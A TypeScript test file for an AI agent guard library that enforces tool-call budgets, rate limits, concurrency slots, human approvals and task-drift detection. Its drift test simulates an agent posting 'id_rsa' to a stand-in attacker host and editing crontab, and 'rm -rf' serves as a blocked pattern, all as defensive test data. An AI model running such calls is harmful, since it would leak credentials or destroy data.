// Sessions over a stand-in engine: budgets, time, rates, children, slots, approvals, checkpoints, drift.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { GuardOptions } from "../../bindings/guard/core.ts";
import { Profile } from "../../bindings/guard/drift.ts";
import type { EventName } from "../../bindings/guard/events.ts";
import { Guard } from "../../bindings/guard/guard.ts";
import type { Entry } from "../../bindings/guard/sink.ts";
import type { LimitsMeta } from "../../bindings/program.ts";
import { type FakePolicy, fakeEngine } from "./fake-engine.ts";

const runs = process.env.PORTCULLIS_DEEP === "1" ? 5_000 : 100;

const ASK = {
  words: ["ask"],
  id: "r",
  effect: "require_approval",
  reason: "rule",
  message: "a person has to see it",
} as const;
const BLOCK = { words: ["rm -rf"] };

function open(limits: Partial<LimitsMeta>, policy: FakePolicy = {}, options: GuardOptions = {}) {
  const time = { now: 0 };
  const guard = new Guard(fakeEngine({ rules: [BLOCK, ASK], ...policy, limits }), {
    clock: () => time.now,
    ...options,
  });
  return { guard, time, session: guard.session({ id: "s", agent: "a" }) };
}

const verdicts = (results: readonly { reason: string }[]): string[] => results.map(({ reason }) => reason);

/** Lets everything that waits for settled promises go on. */
const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

describe("budgets", () => {
  it("tool calls: so many, and no more", () => {
    const { session } = open({ maxToolCalls: 2 });
    const results = [1, 2, 3].map(() => session.check({ tool: "t" }));
    expect(verdicts(results)).toEqual(["allowed", "allowed", "tool_call_limit"]);
    expect(results[2]).toMatchObject({ rules: ["max_tool_calls"], message: "the session has made its 2 tool calls" });
  });

  it("zero means none", () => {
    expect(open({ maxToolCalls: 0 }).session.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(open({ perMinute: 0 }).session.check({ tool: "t" }).reason).toBe("rate_limit");
    expect(open({ maxConcurrent: 0 }).session.check({ tool: "t" }).reason).toBe("concurrency_limit");
    expect(open({ timeoutSeconds: 0 }).session.check({ tool: "t" }).reason).toBe("time_limit");
  });

  it("denied calls, texts and results spend nothing", () => {
    const { session } = open({ maxToolCalls: 1, maxTokens: 10 });
    session.check({ tool: "t", args: ["rm -rf"], tokens: 9 });
    session.check({ tool: "t", args: ["ask"], tokens: 9 });
    session.check({ tool: "t", args: [() => 1], tokens: 9 });
    session.check({ tool: "t", tokens: 11 });
    session.checkText("hello");
    session.checkResult("t", "hello");
    expect(session.usage()).toEqual({ tokens: 0, toolCalls: 0, perTool: {}, running: 0 });
    expect(session.check({ tool: "t", tokens: 10 }).reason).toBe("allowed");
  });

  it("tokens: a call may use what is left, not more", () => {
    const { session } = open({ maxTokens: 10 });
    expect(session.check({ tool: "t", tokens: 10 }).allowed).toBe(true);
    expect(session.check({ tool: "t", tokens: 1 }).reason).toBe("token_limit");
    expect(session.check({ tool: "t" }).allowed).toBe(true);
  });

  it("tokens spent outside of calls count at the next check", () => {
    const { session } = open({ maxTokens: 10 });
    session.spend(11);
    expect(session.check({ tool: "t" }).reason).toBe("token_limit");
    expect(session.limitReached()).toMatchObject({ limit: "max_tokens", reason: "token_limit" });
    expect(() => session.spend(-1)).toThrow(/safe integer/);
  });

  it("counters stop at the last safe integer", () => {
    const { session } = open({ maxTokens: Number.MAX_SAFE_INTEGER });
    session.spend(Number.MAX_SAFE_INTEGER);
    session.spend(Number.MAX_SAFE_INTEGER);
    expect(session.usage().tokens).toBe(Number.MAX_SAFE_INTEGER);
    expect(session.check({ tool: "t", tokens: 1 }).reason).toBe("token_limit");
  });

  it("one tool: its own count, whatever it is called", () => {
    const { session } = open({ perTool: { constructor: 1, t: 2 } });
    const results = ["t", "t", "t", "constructor", "constructor", "toString", "toString"].map((tool) =>
      session.check({ tool }),
    );
    expect(verdicts(results)).toEqual([
      "allowed",
      "allowed",
      "tool_call_limit",
      "allowed",
      "tool_call_limit",
      "allowed",
      "allowed",
    ]);
    expect(results[2]?.rules).toEqual(["limits.per_tool.t"]);
  });

  it("wall time is that of the injected clock, from the opening on", () => {
    const { session, time } = open({ timeoutSeconds: 2 });
    time.now = 1999;
    expect(session.check({ tool: "t" }).allowed).toBe(true);
    expect(session.remainingTime()).toBe(1);
    time.now = 2000;
    expect(session.check({ tool: "t" }).reason).toBe("time_limit");
    expect(session.remainingTime()).toBe(0);
  });

  it("a budget narrows the policy's and never widens it", () => {
    const { guard } = open({ maxToolCalls: 2, perTool: { t: 5 } });
    const wide = guard.session({ id: "wide", budget: { maxToolCalls: 99 } });
    expect(verdicts([1, 2, 3].map(() => wide.check({ tool: "t" })))).toEqual(["allowed", "allowed", "tool_call_limit"]);
    const narrow = guard.session({ id: "narrow", budget: { maxToolCalls: 1, perTool: { t: 0 } } });
    expect(narrow.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(narrow.check({ tool: "u" }).reason).toBe("allowed");
    for (const maxTokens of [-1, 1.5, Number.NaN, Number.POSITIVE_INFINITY, "5" as never]) {
      expect(() => guard.session({ id: "bad", budget: { maxTokens } })).toThrow(/budget.maxTokens/);
    }
  });

  it("observing counts on, and lets pass", () => {
    const { session } = open({ maxToolCalls: 1 }, { mode: "observe" });
    const results = [1, 2].map(() => session.check({ tool: "t" }));
    expect(results).toMatchObject([
      { observed: { reason: "allowed" } },
      { allowed: true, observed: { reason: "tool_call_limit" } },
    ]);
    expect(session.usage().toolCalls).toBe(2);
  });
});

describe("rates", () => {
  it("so many in any 60 seconds", () => {
    const { session, time } = open({ perMinute: 2 });
    const at = (now: number): string => {
      time.now = now;
      return session.check({ tool: "t" }).reason;
    };
    expect([0, 30_000, 59_999, 60_000, 60_001, 89_999, 90_000].map(at)).toEqual([
      "allowed",
      "allowed",
      "rate_limit",
      "allowed",
      "rate_limit",
      "rate_limit",
      "allowed",
    ]);
  });

  it("no window of a minute ever holds more, and nobody is refused without need", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }), fc.array(fc.nat(30_000), { maxLength: 60 }), (perMinute, gaps) => {
        const { session, time } = open({ perMinute });
        const passed: number[] = [];
        for (const gap of gaps) {
          time.now += gap;
          const inWindow = passed.filter((then) => then > time.now - 60_000).length;
          const { allowed } = session.check({ tool: "t" });
          expect(allowed).toBe(inWindow < perMinute);
          if (allowed) passed.push(time.now);
        }
      }),
      { numRuns: runs },
    );
  });
});

describe("children", () => {
  it("spend from their parent and have at most what it has left", () => {
    const { session } = open({ maxToolCalls: 3 });
    session.check({ tool: "t" });
    const child = session.child({ id: "child" });
    const grandchild = child.child({ id: "grandchild", budget: { maxToolCalls: 1 } });
    expect(grandchild.check({ tool: "t" }).allowed).toBe(true);
    expect(grandchild.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(child.check({ tool: "t" }).allowed).toBe(true);
    expect(verdicts([child, session, grandchild].map((each) => each.check({ tool: "t" })))).toEqual(
      Array(3).fill("tool_call_limit"),
    );
    expect(session.usage().toolCalls).toBe(3);
    expect(grandchild.check({ tool: "t" }).rules).toEqual(["max_tool_calls"]);
  });

  it("end with their parent's time", () => {
    const { session, time } = open({ timeoutSeconds: 2 });
    time.now = 1500;
    const child = session.child({ id: "child" });
    expect(child.remainingTime()).toBe(500);
    time.now = 2000;
    expect(child.check({ tool: "t" }).reason).toBe("time_limit");
  });

  it("take their agent from the parent unless they have one", () => {
    const { session } = open({});
    expect(session.child({ id: "c" }).agent).toBe("a");
    expect(session.child({ id: "d", agent: "b" }).agent).toBe("b");
  });
});

describe("ids", () => {
  it("name one open session at a time", () => {
    const { guard, session } = open({ maxToolCalls: 1 });
    expect(() => guard.session({ id: "s" })).toThrow(/open already/);
    expect(() => guard.session({ id: "" })).toThrow(/needs an id/);
    expect(guard.check({ tool: "t", session: "s" }).allowed).toBe(true);
    expect(session.check({ tool: "t" }).reason).toBe("tool_call_limit");
    session.end();
    expect(session.check({ tool: "t" }).reason).toBe("session_required");
    expect(guard.check({ tool: "t", session: "s" }).reason).toBe("session_required");
    const next = guard.session({ id: "s" });
    expect(session.check({ tool: "t" }).reason).toBe("session_required");
    session.end();
    expect(next.check({ tool: "t" }).allowed).toBe(true);
  });

  it("of the session hold, whatever a call says", () => {
    const { guard, session } = open({ maxToolCalls: 1 });
    guard.session({ id: "other" });
    session.check({ tool: "t", session: "other" } as never);
    expect(session.usage().toolCalls).toBe(1);
  });
});

describe("events of a session", () => {
  const names: EventName[] = ["limit_reached", "checkpoint_created", "drift_detected"];
  function hear(guard: Guard): unknown[] {
    const log: unknown[] = [];
    for (const name of names) guard.on(name, (event) => log.push(event));
    return log;
  }

  it("a limit is told once, and again after it let a call pass", () => {
    const { guard, session, time } = open({ perMinute: 1, maxToolCalls: 2 });
    const log = hear(guard);
    const told = (): string[] => log.splice(0).map((event) => (event as { limit: string }).limit);
    for (let call = 0; call < 3; call += 1) session.check({ tool: "t" });
    expect(told()).toEqual(["limits.per_minute"]);
    time.now = 60_000;
    session.check({ tool: "t" });
    session.check({ tool: "t" });
    session.check({ tool: "t" });
    expect(told()).toEqual(["max_tool_calls", "limits.per_minute"]);
  });

  it("a checkpoint after every so many calls", () => {
    const { guard, session } = open({ checkpointFrequency: 2 });
    const log = hear(guard);
    for (let call = 0; call < 5; call += 1) session.check({ tool: "t", tokens: 3 });
    expect(log).toEqual([
      { type: "checkpoint_created", session: "s", agent: "a", toolCalls: 2, tokens: 6 },
      { type: "checkpoint_created", session: "s", agent: "a", toolCalls: 4, tokens: 12 },
    ]);
  });

  it("drift when what is done no longer speaks of the task", () => {
    const { guard } = open({ checkpointFrequency: 2, driftThreshold: 0.5 });
    const session = guard.session({ id: "task", task: "Summarise the quarterly sales figures of the northern region" });
    const log = hear(guard);
    session.check({ tool: "read_file", args: { path: "sales/northern-region/quarterly-figures.csv" } });
    session.check({ tool: "summarise", args: { text: "quarterly sales figures" } });
    expect(log.splice(0)).toMatchObject([{ type: "checkpoint_created" }]);
    session.check({ tool: "http_post", args: { url: "https://evil.example/upload", body: "id_rsa" } });
    session.check({ tool: "shell", args: { command: "crontab -e" } });
    expect(log).toMatchObject([
      { type: "checkpoint_created" },
      { type: "drift_detected", session: "task", threshold: 500 },
    ]);
    expect((log[1] as { drift: number }).drift).toBeGreaterThan(700);
  });
});

describe("distance", () => {
  const profile = (text: string): Profile => {
    const made = new Profile();
    made.add(text);
    return made;
  };

  it.each([
    ["the same words", "delete old logs", "delete old logs", 0],
    ["another order and case", "delete old logs", "LOGS, old! (Delete)", 0],
    ["some of the words", "delete old logs", "logs", 0],
    ["no shared word", "abc", "xyz", 1000],
    ["nothing said", "abc", "", 0],
    ["nothing asked", " ?! ", "abc", 0],
    ["half of the words", "alpha", "alpha omega", 0],
    ["beyond ASCII", "Übersicht 北京", "北京 Übersicht", 0],
  ])("%s", (_name, a, b, distance) => {
    expect(profile(a).distance(profile(b))).toBe(distance);
    expect(profile(b).distance(profile(a))).toBe(distance);
  });

  it("is symmetric, an integer between 0 and 1000, and 0 to itself", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), fc.string(), (a, b) => {
        const there = profile(a).distance(profile(b));
        expect(there).toBe(profile(b).distance(profile(a)));
        expect(Number.isInteger(there) && there >= 0 && there <= 1000).toBe(true);
        expect(profile(a).distance(profile(a))).toBe(0);
      }),
      { numRuns: runs },
    );
  });
});

describe("permits", () => {
  it("hold a slot until released, once", async () => {
    const { session } = open({ maxConcurrent: 1 });
    const first = await session.authorize({ tool: "t", args: { a: 1 } });
    expect(first).toMatchObject({ allowed: true, args: { a: 1 } });
    expect(session.usage()).toMatchObject({ running: 1, toolCalls: 1 });
    const second = await session.authorize({ tool: "t" });
    expect(second).toMatchObject({
      allowed: false,
      args: undefined,
      decision: { reason: "concurrency_limit", rules: ["max_concurrent"] },
    });
    expect(session.check({ tool: "t" }).reason).toBe("concurrency_limit");
    second.release();
    first.release();
    first.release();
    expect(session.usage()).toMatchObject({ running: 0, toolCalls: 1 });
    expect((await session.authorize({ tool: "t" })).allowed).toBe(true);
  });

  it("are waited for between the threshold and the maximum, in order, and refused beyond", async () => {
    const { session } = open({ maxConcurrent: 3, backpressureThreshold: 1 });
    const order: string[] = [];
    const ask = async (name: string) => {
      const permit = await session.authorize({ tool: name });
      order.push(`${name}:${permit.decision.reason}`);
      return permit;
    };
    const a = await ask("a");
    const waiting = [ask("b"), ask("c")];
    await settle();
    expect(order).toEqual(["a:allowed"]);
    await ask("d");
    expect(order).toEqual(["a:allowed", "d:concurrency_limit"]);
    a.release();
    const b = await waiting[0];
    await settle();
    expect(order.slice(2)).toEqual(["b:allowed"]);
    expect(session.usage()).toMatchObject({ running: 1, toolCalls: 2 });
    b?.release();
    (await waiting[1])?.release();
    expect(order.slice(3)).toEqual(["c:allowed"]);
    expect(session.usage()).toMatchObject({ running: 0, toolCalls: 3 });
  });

  it("that were waited for are not refused because others wait", async () => {
    const { session } = open({ maxConcurrent: 2, backpressureThreshold: 1 });
    const first = await session.authorize({ tool: "t" });
    const second = session.authorize({ tool: "t" });
    first.release();
    const third = session.authorize({ tool: "t" });
    const permit = await second;
    expect(permit.allowed).toBe(true);
    permit.release();
    expect((await third).allowed).toBe(true);
  });

  it("are not waited for by calls that are denied anyway", async () => {
    const { session } = open({ maxConcurrent: 3, backpressureThreshold: 1 });
    await session.authorize({ tool: "t" });
    expect((await session.authorize({ tool: "t", args: ["rm -rf"] })).decision.reason).toBe("blocked_pattern");
  });

  it("are judged again after waiting: a limit reached meanwhile holds, and the slot goes on", async () => {
    const { session } = open({ maxConcurrent: 4, backpressureThreshold: 1, maxToolCalls: 1 });
    const first = await session.authorize({ tool: "t" });
    expect((await session.authorize({ tool: "t" })).decision.reason).toBe("tool_call_limit");
    first.release();
    const other = open({ maxConcurrent: 4, backpressureThreshold: 1, timeoutSeconds: 1 });
    const running = await other.session.authorize({ tool: "t" });
    const waiting = [other.session.authorize({ tool: "t" }), other.session.authorize({ tool: "t" })];
    other.time.now = 1000;
    running.release();
    expect(verdicts((await Promise.all(waiting)).map(({ decision }) => decision))).toEqual([
      "time_limit",
      "time_limit",
    ]);
    expect(other.session.usage().running).toBe(0);
  });

  it("run on the arguments as they were when asked", async () => {
    const { session } = open({ maxConcurrent: 2, backpressureThreshold: 1 });
    const first = await session.authorize({ tool: "t" });
    const args = { path: "/tmp/ok" };
    const waiting = session.authorize({ tool: "t", args });
    args.path = "rm -rf";
    first.release();
    expect(await waiting).toMatchObject({ allowed: true, args: { path: "/tmp/ok" } });
  });

  it("can be given up: the line goes on, nothing is spent", async () => {
    const { session } = open({ maxConcurrent: 3, backpressureThreshold: 1 });
    const first = await session.authorize({ tool: "t" });
    const controller = new AbortController();
    const given = session.authorize({ tool: "t" }, { signal: controller.signal });
    const next = session.authorize({ tool: "t" });
    controller.abort(new Error("enough"));
    await expect(given).rejects.toThrow("enough");
    first.release();
    expect((await next).allowed).toBe(true);
    expect(session.usage()).toMatchObject({ running: 1, toolCalls: 2 });
    await expect(session.authorize({ tool: "t" }, { signal: controller.signal })).rejects.toThrow("enough");
  });

  it("a child waits for its parent's slots too", async () => {
    const { session } = open({ maxConcurrent: 5, backpressureThreshold: 1 });
    const child = session.child({ id: "child" });
    const other = session.child({ id: "other" });
    const first = await child.authorize({ tool: "t" });
    const waiting = [other.authorize({ tool: "t" }), child.authorize({ tool: "t" })];
    await settle();
    expect(session.usage().running).toBe(1);
    first.release();
    (await waiting[0])?.release();
    (await waiting[1])?.release();
    expect(session.usage()).toMatchObject({ running: 0, toolCalls: 3 });
  });

  it("never run more at once than may, and leave nobody behind", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 1, max: 4 }),
        fc.integer({ min: 0, max: 4 }),
        fc.array(fc.record({ child: fc.boolean(), steps: fc.nat(4), abort: fc.boolean() }), { maxLength: 20 }),
        async (threshold, extra, calls) => {
          const { session } = open({ maxConcurrent: threshold + extra, backpressureThreshold: threshold });
          const child = session.child({ id: "child", budget: { maxConcurrent: 2, backpressureThreshold: 1 } });
          let running = 0;
          let runningInside = 0;
          const outcomes = calls.map(async ({ child: inside, steps, abort }) => {
            const controller = new AbortController();
            const asked = (inside ? child : session).authorize({ tool: "t" }, { signal: controller.signal });
            if (abort) queueMicrotask(() => controller.abort("given up"));
            const permit = await asked.catch(() => undefined);
            if (!permit?.allowed) return;
            running += 1;
            if (inside) runningInside += 1;
            expect(running).toBeLessThanOrEqual(threshold);
            expect(runningInside).toBeLessThanOrEqual(1);
            for (let step = 0; step < steps; step += 1) await Promise.resolve();
            running -= 1;
            if (inside) runningInside -= 1;
            permit.release();
          });
          await Promise.all(outcomes);
          expect(session.usage().running).toBe(0);
          expect(child.usage().running).toBe(0);
        },
      ),
      { numRuns: runs },
    );
  });
});

describe("approvals", () => {
  const asking = { tool: "t", args: { c: "ask" } };

  it("without a handler are not given", async () => {
    const { session } = open({});
    const { allowed, decision } = await session.authorize(asking);
    expect(allowed).toBe(false);
    expect(decision).toMatchObject({
      effect: "deny",
      reason: "approval_required",
      rules: ["r"],
      message: "a person has to see it; nobody is there to give it",
    });
  });

  it("given, let the call run, recorded and told", async () => {
    const entries: Entry[] = [];
    const { guard, session } = open(
      { requireHumanApproval: true },
      {},
      {
        approve: ({ call, args, decision }) => {
          expect([call.tool, args, decision.effect]).toEqual(["t", { c: "ask" }, "require_approval"]);
          return { approved: true, by: "ann", note: "fine" };
        },
        sinks: [{ record: (entry) => entries.push(entry) }],
      },
    );
    const log: string[] = [];
    for (const name of ["approval_requested", "approval_resolved", "policy_check", "tool_call_blocked"] as const)
      guard.on(name, ({ type }) => log.push(type));
    const permit = await session.authorize(asking);
    expect(permit.decision).toMatchObject({
      allowed: true,
      effect: "allow",
      reason: "allowed",
      rules: ["r", "require_human_approval"],
    });
    expect(log).toEqual(["approval_requested", "approval_resolved", "policy_check"]);
    expect(entries).toMatchObject([
      { kind: "approval", approved: true, by: "ann", note: "fine" },
      { kind: "decision" },
    ]);
  });

  it("work without a session", async () => {
    const guard = new Guard(fakeEngine({ rules: [ASK] }), { approve: async () => true });
    expect((await guard.authorize(asking)).allowed).toBe(true);
  });

  it.each<readonly [string, NonNullable<GuardOptions["approve"]>, string]>([
    ["refused", () => false, "it was not given"],
    ["refused with a note", () => ({ approved: false, note: "not on a Friday" }), "not on a Friday"],
    ["answered with something truthy", () => "yes" as never, "it was not given"],
    ["answered with a truthy field", () => ({ approved: 1 }) as never, "it was not given"],
    ["answered with nothing", () => undefined as never, "it was not given"],
    [
      "thrown",
      () => {
        throw new Error("no");
      },
      "asking for it failed",
    ],
    ["rejected", () => Promise.reject(new Error("no")), "asking for it failed"],
  ])("%s, deny", async (_name, approve, why) => {
    const { session } = open({ maxToolCalls: 1 }, {}, { approve });
    const { decision } = await session.authorize(asking);
    expect(decision).toMatchObject({
      allowed: false,
      effect: "deny",
      reason: "approval_required",
      message: `a person has to see it; ${why}`,
    });
    expect(session.usage()).toMatchObject({ toolCalls: 0, running: 0 });
  });

  it("do not undo a denial, and are not asked for then", async () => {
    let asked = 0;
    const { session } = open(
      {},
      {},
      {
        approve: () => {
          asked += 1;
          return true;
        },
      },
    );
    expect((await session.authorize({ tool: "t", args: ["ask", "rm -rf"] })).decision.reason).toBe("blocked_pattern");
    expect(asked).toBe(0);
  });

  it("do not undo a limit that was reached meanwhile", async () => {
    const { session, time } = open(
      { timeoutSeconds: 1 },
      {},
      {
        approve: () => {
          time.now = 5000;
          return true;
        },
      },
    );
    expect((await session.authorize(asking)).decision.reason).toBe("time_limit");
  });

  it("see a copy: what a handler does to it changes nothing", async () => {
    const { session } = open(
      {},
      {},
      {
        approve: ({ args }) => {
          Object.assign(args as object, { c: "rm -rf" });
          return true;
        },
      },
    );
    expect((await session.authorize(asking)).args).toEqual({ c: "ask" });
  });

  it("can be given up", async () => {
    const controller = new AbortController();
    const { session } = open({}, {}, { approve: () => new Promise(() => {}) });
    const asked = session.authorize(asking, { signal: controller.signal });
    controller.abort(new Error("enough"));
    await expect(asked).rejects.toThrow("enough");
  });

  it("that cannot be recorded are not given", async () => {
    const sinks = [
      {
        record: (entry: Entry) => {
          if (entry.kind === "approval") throw new Error("disk full");
        },
      },
    ];
    const { session } = open({}, {}, { approve: () => true, sinks });
    expect((await session.authorize(asking)).decision).toMatchObject({ allowed: false, reason: "approval_required" });
  });

  it("are not asked for where the policy observes", async () => {
    let asked = 0;
    const { session } = open(
      {},
      { mode: "observe" },
      {
        approve: () => {
          asked += 1;
          return true;
        },
      },
    );
    expect((await session.authorize(asking)).decision).toMatchObject({
      allowed: true,
      observed: { effect: "require_approval" },
    });
    expect(asked).toBe(0);
  });
});

describe("wrapped tools", () => {
  it("run on the snapshot, pass further arguments on, and keep their own this", async () => {
    const { guard } = open({});
    class Disk {
      root = "/data";
      description = "reads";
      execute({ path }: { path: string }, { id }: { id: number }) {
        return `${this.root}${path}#${id}`;
      }
    }
    const disk = new Disk();
    const tools = {
      disk,
      add: ({ a, b }: { a: number; b: number }) => a + b,
      client: { description: "runs elsewhere" },
    };
    const before = { ...tools };
    const wrapped = guard.wrapTools(tools);
    expect(await wrapped.add({ a: 1, b: 2 })).toBe(3);
    expect(await wrapped.disk.execute({ path: "/x" }, { id: 7 })).toBe("/data/x#7");
    expect(wrapped.disk).toBeInstanceOf(Disk);
    expect(wrapped.disk.description).toBe("reads");
    expect(wrapped.client).toBe(tools.client);
    expect(tools).toEqual(before);
    expect(Object.hasOwn(disk, "execute")).toBe(false);
  });

  it("answer a denial instead of running, or what the host makes of it", async () => {
    const { guard } = open({});
    let ran = 0;
    const tools = {
      t: (_args: { c: string }) => {
        ran += 1;
      },
    };
    expect(await guard.wrapTools(tools).t({ c: "rm -rf" })).toEqual({
      error: "denied",
      reason: "blocked_pattern",
      message: "rule blocked_patterns[0]",
      rules: ["blocked_patterns[0]"],
    });
    const strict = guard.wrapTools(tools, {
      denied: ({ reason }, tool) => {
        throw new Error(`${tool}: ${reason}`);
      },
    });
    await expect(strict.t({ c: "rm -rf" })).rejects.toThrow("t: blocked_pattern");
    expect(ran).toBe(0);
  });

  it("count in the session they are given, and free their slot when they throw", async () => {
    const { guard, session } = open({ maxConcurrent: 1, explicit: ["max_concurrent"] });
    const tools = {
      t: () => {
        throw new Error("broken");
      },
    };
    expect(await guard.wrapTools(tools).t()).toMatchObject({ reason: "session_required" });
    const wrapped = guard.wrapTools(tools, { session: "s", agent: "a" });
    await expect(wrapped.t()).rejects.toThrow("broken");
    await expect(wrapped.t()).rejects.toThrow("broken");
    expect(session.usage()).toMatchObject({ toolCalls: 2, running: 0 });
  });

  it("give results through the rules for results", async () => {
    const rules = [{ words: ["555"], id: "redact[0]", effect: "redact", reason: "redacted", role: "redact" }] as const;
    const { guard } = open({}, { rules });
    const wrapped = guard.wrapTools({ t: () => ({ phone: "555", n: 5551 }), u: () => "call 555", v: () => undefined });
    expect(await wrapped.u()).toBe("call [redacted]");
    expect(await wrapped.t()).toMatchObject({ error: "denied", reason: "unredactable" });
    expect(await wrapped.v()).toBeUndefined();
  });
});
